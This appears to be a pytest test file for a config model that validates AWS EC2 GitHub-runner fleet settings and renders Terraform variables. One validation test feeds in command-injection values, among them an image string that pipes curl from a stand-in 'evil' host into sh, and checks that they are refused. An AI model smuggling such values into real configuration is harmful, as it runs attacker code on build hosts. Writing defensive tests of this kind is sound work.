"""Config model: seed defaults, env overrides, tfvars rendering and clear errors."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from runnerfleet import config
from runnerfleet.config import ConfigError, FleetConfig, env_overrides, load, to_tfvars, validate


def test_defaults_are_the_seed_architecture() -> None:
    cfg = FleetConfig()
    assert cfg.aws.region == "us-east-1"
    assert cfg.network.vpc_cidr == "10.0.0.0/16"
    assert cfg.network.public_subnet_cidrs == ["10.0.1.0/24"]
    assert cfg.network.private_subnet_cidrs == ["10.0.2.0/24"]
    assert cfg.network.availability_zones == ["us-east-1a"]
    assert cfg.runners.instance_type == "t3.medium"
    assert cfg.runners.volume_size == 50
    assert cfg.runners.volume_type == "gp3"
    assert cfg.backend.key == "aws/ec2-runner/terraform.tfstate"
    assert cfg.backend.locking == "both"


def test_missing_file_gives_defaults(tmp_path: Path) -> None:
    cfg = load(tmp_path / "none.toml", environ={}, required=False)
    assert cfg == FleetConfig()


def test_env_overrides_nested_and_typed(tmp_path: Path) -> None:
    path = tmp_path / "runnerfleet.toml"
    path.write_text('name = "alpha"\n[runners]\ncount = 1\n')
    env = {
        "RUNNERFLEET_RUNNERS__COUNT": "3",
        "RUNNERFLEET_AWS__REGION": "eu-west-1",
        "RUNNERFLEET_NETWORK__AVAILABILITY_ZONES": '["eu-west-1a"]',
        "RUNNERFLEET_CONFIG": "ignored-not-a-setting",
        "OTHER": "x",
    }
    cfg = load(path, environ=env)
    assert cfg.name == "alpha"
    assert cfg.runners.count == 3
    assert cfg.aws.region == "eu-west-1"
    assert cfg.network.availability_zones == ["eu-west-1a"]


def test_env_override_that_is_invalid_names_the_field(tmp_path: Path) -> None:
    with pytest.raises(ConfigError) as exc:
        load(tmp_path / "x.toml", environ={"RUNNERFLEET_RUNNERS__COUNT": "many"}, required=False)
    assert exc.value.problems[0][0] == "runners.count"


# Stack variables that runnerfleet derives in Terraform rather than from the config file.
DERIVED_IN_STACK = {
    "control_plane_package",  # the Lambda zip runnerfleet builds before plan
    "agent_artifact_path",  # the hosts' agent artifact (runnerfleet.hostartifact), built by up
    "agent_artifact_key",
    "agent_artifact_sha256",
}


def test_tfvars_cover_every_stack_variable() -> None:
    stack = Path(__file__).parents[2] / "infra/stacks/ec2-runner"
    declared = set()
    for tf in stack.glob("*.tf"):
        for line in tf.read_text().splitlines():
            if line.startswith('variable "'):
                declared.add(line.split('"')[1])
    declared -= DERIVED_IN_STACK
    rendered = set(to_tfvars(FleetConfig()))
    assert rendered <= declared, f"tfvars without a stack variable: {rendered - declared}"
    assert declared <= rendered, f"stack variables the config never sets: {declared - rendered}"


def test_multi_az_config_is_valid() -> None:
    cfg = validate(
        {
            "network": {
                "availability_zones": ["us-east-1a", "us-east-1b"],
                "public_subnet_cidrs": ["10.0.1.0/24", "10.0.3.0/24"],
                "private_subnet_cidrs": ["10.0.2.0/24", "10.0.4.0/24"],
                "nat": "per_az",
            }
        }
    )
    assert to_tfvars(cfg)["nat_mode"] == "per_az"


# (config, field the error must name, a word of the fix)
INVALID = [
    ({"name": "Bad_Name"}, "name", "lowercase"),
    ({"aws": {"region": "mars-1"}}, "aws.region", "us-east-1"),
    ({"network": {"vpc_cidr": "10.0.0.0/33"}}, "network.vpc_cidr", "CIDR"),
    ({"network": {"vpc_cidr": "10.0.0.1/16"}}, "network.vpc_cidr", "host bits"),
    (
        {"network": {"public_subnet_cidrs": ["192.168.1.0/24"]}},
        "network.public_subnet_cidrs[0]",
        "inside",
    ),
    (
        {"network": {"private_subnet_cidrs": ["10.0.1.0/24"]}},
        "network.private_subnet_cidrs[0]",
        "overlap",
    ),
    (
        {"network": {"availability_zones": ["us-east-1a", "us-east-1b"]}},
        "network.public_subnet_cidrs",
        "one per zone",
    ),
    ({"network": {"availability_zones": ["eu-west-1a"]}}, "network.availability_zones", "region"),
    ({"backend": {"bucket": "My_Bucket"}}, "backend.bucket", "naming rules"),
    ({"backend": {"bucket": "192.168.1.1"}}, "backend.bucket", "IP address"),
    ({"backend": {"locking": "redis"}}, "backend.locking", "both"),
    ({"runners": {"count": 1000}}, "runners.count", "100"),
    ({"runners": {"volume_size": 2}}, "runners.volume_size", "8"),
    ({"runners": {"instance_type": "huge"}}, "runners.instance_type", "t3.medium"),
    ({"runners": {"mode": "elastic"}}, "runners.mode", "static"),
    ({"runners": {"volume_type": "gp2", "volume_throughput": 200}}, "runners", "gp3"),
    ({"runners": {"pools": [{"min_size": 5, "max_size": 2}]}}, "runners.pools[0]", "max_size"),
    ({"runners": {"ssh_ingress_cidrs": ["1.2.3.4"]}}, "runners.ssh_ingress_cidrs", "CIDR"),
    ({"github": {"url": "github.com"}}, "github.url", "https://"),
    ({"monitoring": {"log_retention_days": 42}}, "monitoring.log_retention_days", "30"),
    ({"runners": {"cont": 3}}, "runners.cont", "spelling"),
    ({"tags": {"aws:owner": "me"}}, "tags", "reserved"),
    ({"runners": {"runner_version": "2.1.0"}}, "runners", "runner_sha256"),
    ({"runners": {"runner_sha256": "abc"}}, "runners.runner_sha256", "64"),
    (
        {
            "runners": {
                "pools": [
                    {
                        "max_size": 2,
                        "schedules": [{"name": "am", "recurrence": "0 8 * * *", "min_size": 5}],
                    }
                ]
            }
        },
        "runners.pools[0]",
        "max_size",
    ),
    (
        {"runners": {"pools": [{"warm_pool_size": 1, "on_demand_percentage_above_base": 0}]}},
        "runners.pools[0]",
        "warm pool",
    ),
]


@pytest.mark.parametrize(("data", "field", "hint"), INVALID, ids=[i[1] for i in INVALID])
def test_invalid_configs_name_the_field_and_the_fix(
    data: dict[str, Any], field: str, hint: str
) -> None:
    with pytest.raises(ConfigError) as exc:
        validate(data)
    fields = [f for f, _ in exc.value.problems]
    assert field in fields, f"{field} not in {fields}: {exc.value}"
    assert hint.lower() in str(exc.value).lower()


def test_bad_toml_syntax_is_reported(tmp_path: Path) -> None:
    path = tmp_path / "runnerfleet.toml"
    path.write_text("name = \n")
    with pytest.raises(ConfigError, match="not valid TOML"):
        load(path, environ={})


@given(
    octets=st.tuples(st.integers(0, 255), st.integers(0, 255)),
    prefix=st.integers(16, 26),
)
def test_any_valid_vpc_cidr_with_inside_subnets_validates(
    octets: tuple[int, int], prefix: int
) -> None:
    import ipaddress

    vpc = ipaddress.IPv4Network(f"10.{octets[0]}.{octets[1]}.0/{prefix}", strict=False)
    subnets = list(vpc.subnets(new_prefix=prefix + 2))
    cfg = validate(
        {
            "network": {
                "vpc_cidr": str(vpc),
                "public_subnet_cidrs": [str(subnets[0])],
                "private_subnet_cidrs": [str(subnets[1])],
            }
        }
    )
    assert cfg.network.vpc_cidr == str(vpc)


def test_env_overrides_ignore_cli_settings() -> None:
    assert env_overrides({"RUNNERFLEET_HOME": "/x", "RUNNERFLEET_TF_BINARY": "t"}) == {}
    assert {"CONFIG", "HOME"} <= config.RESERVED_ENV


def test_tfvars_example_names_only_declared_variables() -> None:
    stack = Path(__file__).parents[2] / "infra/stacks/ec2-runner"
    declared = {
        line.split('"')[1]
        for tf in stack.glob("*.tf")
        for line in tf.read_text().splitlines()
        if line.startswith('variable "')
    }
    example = (stack / "terraform.tfvars.example").read_text()
    named = set(re.findall(r"^(?:# )?([a-z_0-9]+)\s+=", example, re.M))
    assert named, "the example names no variable"
    assert named <= declared, f"undeclared in the stack: {named - declared}"
    assert set(to_tfvars(FleetConfig())) <= named, "the example misses some inputs"


# ---- input refused before anything starts (issue 14.6) -----------------------------------
def test_instance_type_list_is_botocores() -> None:
    """The shipped list is botocore's EC2 InstanceType enum (refresh: catalogue --refresh)."""
    import botocore.loaders

    from runnerfleet import catalogue

    model = botocore.loaders.create_loader().load_service_model("ec2", "service-2")
    enum = set(model["shapes"]["InstanceType"]["enum"])
    shipped = catalogue.instance_types()
    assert {"t3.medium", "m7g.large", "c7i.xlarge"} <= shipped
    assert "t3.huge" not in shipped
    assert len(shipped - enum) == 0, sorted(shipped - enum)[:10]


@pytest.mark.parametrize(
    ("data", "field", "hint"),
    [
        ({"runners": {"instance_type": "t3.huge"}}, "runners.instance_type", "did you mean"),
        (
            {"runners": {"pools": [{"instance_types": ["m5.larg"]}]}},
            "runners.pools[0].instance_types",
            "did you mean 'm5.large'",
        ),
        (
            {"aws": {"region": "us-east-9"}, "network": {"availability_zones": ["us-east-9a"]}},
            "aws.region",
            "did you mean 'us-east-2'",
        ),
        ({"name": "abc\n"}, "name", "lowercase"),
        ({"runners": {"labels": ["gpu\n"]}}, "runners.labels", "no spaces"),
        ({"monitoring": {"log_retention_days": True}}, "monitoring.log_retention_days", "true"),
        ({"runners": {"ephemeral": 1}}, "runners.ephemeral", "true or false"),
        ({"runners": {"ephemeral": "yes"}}, "runners.ephemeral", "true or false"),
        ({"runners": {"count": 1.0}}, "runners.count", "whole number"),
        ({"runners": {"pools": [{"cpu_target": float("nan")}]}}, "runners.pools[0].cpu_target", ""),
        (
            {"runners": {"app_image": "nginx:1; curl http://evil | sh"}},
            "runners.app_image",
            "image",
        ),
        ({"runners": {"app_image": "$(id)"}}, "runners.app_image", "image"),
        ({"runners": {"s3_bucket_names": ["a b"]}}, "runners.s3_bucket_names", "bucket"),
        ({"tags": {"team": "x\ny"}}, "tags", "value"),
        ({"github": {"repository": "r;m"}}, "github.repository", "repository"),
        ({"github": {"url": "https://ghe.example.com/$(id)"}}, "github.url", "url"),
        ({"github": {"url": "https://ghe.example.com/a b"}}, "github.url", "url"),
        ({"backend": {"key": "state\n.tfstate"}}, "backend.key", "object key"),
        (
            {"control_plane": {"reconcile_schedule": "often"}},
            "control_plane.reconcile_schedule",
            "",
        ),
        ({"control_plane": {"job_recheck_seconds": 5}}, "control_plane.job_recheck_seconds", "10"),
    ],
)
def test_surprising_values_are_refused(data: dict[str, Any], field: str, hint: str) -> None:
    with pytest.raises(ConfigError) as exc:
        validate(data)
    assert field in [f for f, _ in exc.value.problems], exc.value
    assert hint.lower() in str(exc.value).lower()


@pytest.mark.parametrize(
    "image",
    [
        "nginxdemos/hello:plain-text",
        "nginx",
        "ghcr.io/owner/app:v1.2.3",
        "123456789012.dkr.ecr.us-east-1.amazonaws.com/team/app:latest",
        "localhost:5000/x/y@sha256:" + "a" * 64,
        "[::1]:5000/app:1",
    ],
)
def test_image_references_in_the_oci_grammar_pass(image: str) -> None:
    assert validate({"runners": {"app_image": image}}).runners.app_image == image


def test_a_named_file_must_exist_the_default_may_be_missing(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="does not exist"):
        load(tmp_path / "typo.toml", environ={})
    with pytest.raises(ConfigError, match="does not exist"):
        load(environ={"RUNNERFLEET_CONFIG": str(tmp_path / "typo.toml")})
    assert load(tmp_path / "runnerfleet.toml", environ={}, required=False) == FleetConfig()


def test_env_problems_name_the_variable(tmp_path: Path) -> None:
    with pytest.raises(ConfigError) as exc:
        load(tmp_path / "x.toml", environ={"RUNNERFLEET_RUNNERS__EPHEMERAL": "1"}, required=False)
    assert "RUNNERFLEET_RUNNERS__EPHEMERAL" in str(exc.value)
    with pytest.raises(ConfigError, match="remove one of the two"):
        env_overrides({"RUNNERFLEET_AWS": "plain", "RUNNERFLEET_AWS__REGION": "eu-west-1"})
    with pytest.raises(ConfigError, match="RUNNERFLEET_<SECTION>__<KEY>"):
        env_overrides({"RUNNERFLEET_": "x"})


def test_numeric_app_id_from_the_environment_is_a_string(tmp_path: Path) -> None:
    cfg = load(tmp_path / "x.toml", environ={"RUNNERFLEET_GITHUB__APP_ID": "12345"}, required=False)
    assert cfg.github.app_id == "12345"


def test_pool_idle_is_a_whole_number_within_max_size_and_reaches_tfvars() -> None:
    cfg = validate({"runners": {"mode": "autoscaled", "pools": [{"max_size": 4, "idle": 2}]}})
    assert cfg.runners.pools[0].idle == 2 and FleetConfig().runners.pools[0].idle == 0
    assert [p["idle"] for p in to_tfvars(cfg)["pools"]] == [2]
    for bad, field, hint in [
        ({"max_size": 2, "idle": 3}, "runners.pools[0]", "idle (3) is above max_size (2)"),
        ({"idle": -1}, "runners.pools[0].idle", "greater than or equal to 0"),
        ({"idle": "2"}, "runners.pools[0].idle", "valid integer"),
        ({"idle": True}, "runners.pools[0].idle", "valid integer"),
        ({"idle": 1.5}, "runners.pools[0].idle", "valid integer"),
    ]:
        with pytest.raises(ConfigError) as exc:
            validate({"runners": {"pools": [bad]}})
        assert field in [f for f, _ in exc.value.problems], str(exc.value)
        assert hint in str(exc.value), str(exc.value)


def test_detailed_monitoring_is_opt_in_from_the_toml_and_reaches_tfvars(tmp_path: Path) -> None:
    """`[monitoring] detailed_monitoring`: off by default, a strict boolean, and the stack
    variable of the same name (which runners.tf passes to the runner-fleet module)."""
    assert to_tfvars(FleetConfig())["detailed_monitoring"] is False
    path = tmp_path / "runnerfleet.toml"
    path.write_text("[monitoring]\ndetailed_monitoring = true\n")
    assert to_tfvars(load(path))["detailed_monitoring"] is True
    env = {"RUNNERFLEET_MONITORING__DETAILED_MONITORING": "false"}
    assert to_tfvars(load(path, environ=env))["detailed_monitoring"] is False
    with pytest.raises(ConfigError) as exc:
        validate({"monitoring": {"detailed_monitoring": "yes"}})
    assert "monitoring.detailed_monitoring" in [f for f, _ in exc.value.problems]
    runners_tf = (Path(__file__).parents[2] / "infra/stacks/ec2-runner/runners.tf").read_text()
    assert re.search(r"(?m)^\s*detailed_monitoring\s*=\s*var\.detailed_monitoring\s*$", runners_tf)
